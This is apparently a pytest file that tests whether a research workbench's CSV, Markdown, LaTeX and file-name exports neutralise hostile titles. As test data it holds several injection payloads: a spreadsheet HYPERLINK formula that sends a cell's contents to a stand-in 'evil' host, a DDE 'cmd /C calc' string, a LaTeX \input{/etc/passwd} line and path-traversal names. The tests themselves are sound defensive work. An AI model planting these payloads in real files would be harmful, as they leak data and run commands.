"""Exports hold names that came from elsewhere: what opens them shows text, and runs, follows and computes nothing."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from tests.workbench.synthetic_experiment import experiment_detail
from workbench.comparison.comparison import compare
from workbench.comparison.results import Comparison
from workbench.export import tables
from workbench.export.bundle import export_comparison, file_name
from workbench.export.spreadsheet import safe, tab_separated

FORMULA = '=HYPERLINK("http://evil/?"&A1)'
MARKUP = "[x](http://evil)<img src=x>| $\\frac{1}{0}$ \\input{/etc/passwd}%&#"


@pytest.fixture(scope="module")
def comparison() -> Comparison:
    """Of configurations with hostile titles; the label that differs is hostile too."""
    made = compare(experiment_detail())
    rows = []
    for number, row in enumerate(made.rows):
        title = (FORMULA, MARKUP, "[1ex] first in its row", "* starred")[number % 4]
        rows.append(replace(row, title=title, labels={**row.labels, "precision": title}))
    return replace(made, rows=tuple(rows), name=MARKUP)


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"])
def test_that_a_text_that_would_be_a_formula_is_text(text: str) -> None:
    assert safe(text) == f"'{text}"
    cells = tab_separated([(text, "a\tb\nc")]).removesuffix("\n").split("\t")
    assert len(cells) == 2
    assert not cells[0].startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("value", [-1.5, 3, None, "-1.5", "+2", "1e-5", "-inf", "–", "int8", "", "a=b"])
def test_that_numbers_and_other_texts_stay_as_they_are(value: object) -> None:
    assert safe(value) == value


def test_that_no_cell_of_a_csv_begins_a_formula(comparison: Comparison) -> None:
    text = tables.comparison_csv(comparison)
    assert f"'{FORMULA}" in {row[2] for row in csv.reader(io.StringIO(text)) if len(row) > 2}
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert safe(cell) == cell


def test_that_markdown_has_no_link_html_or_further_column(comparison: Comparison) -> None:
    text = tables.comparison_markdown(comparison)
    assert "](" not in text
    assert "<img" not in text.replace("\\<", "")
    rows = [line for line in text.splitlines() if line.startswith("|")]
    assert len({line.replace("\\|", "").count("|") for line in rows}) == 1


def test_that_latex_runs_nothing(comparison: Comparison) -> None:
    lines = tables.comparison_latex(comparison).splitlines()
    text = "\n".join(line for line in lines if not line.startswith("% "))
    assert "\\input" not in text
    assert "\\frac" not in text
    body = [line.strip() for line in text.splitlines() if line.endswith("\\\\")]
    assert any(line.startswith("{}[1ex]") for line in body)
    assert any(line.startswith("{}*") for line in body)
    assert not any(line.startswith(("[", "*")) for line in body), "it would be an argument of the row before"


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "a/b", "..", "a\0b", ".ssh"])
def test_that_a_name_leads_out_of_no_folder(name: str, tmp_path: Path, comparison: Comparison) -> None:
    made = file_name(name)
    assert Path(made).name == made
    assert not made.startswith(".")
    assert "\0" not in made
    written = export_comparison(replace(comparison, name=name), tmp_path / "out", formats=("csv",))
    assert written
    assert all(path.resolve().parent == (tmp_path / "out").resolve() for path in written)
